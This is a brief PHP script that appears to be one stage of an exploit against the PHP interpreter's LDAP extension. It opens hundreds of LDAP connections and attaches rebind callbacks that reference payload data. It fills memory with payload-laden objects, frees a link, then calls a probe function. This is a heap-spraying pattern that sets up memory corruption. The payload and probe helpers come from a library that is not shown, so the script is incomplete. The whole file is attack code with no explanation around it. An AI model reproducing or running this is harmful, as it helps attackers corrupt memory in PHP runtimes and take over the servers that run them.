<?php
// loads: ldap
require __DIR__ . '/lib.php';

for ($i = 0; $i < 800 * TIMES; $i++) {
    $link = ldap_connect("ldap://localhost:$i");
    ldap_set_rebind_proc($link, fn($l, $u) => strlen(payload($i)));
    $objs[] = [$link, payload($i, 1000)];
}
unset($link);
probe($argv[1], $base);
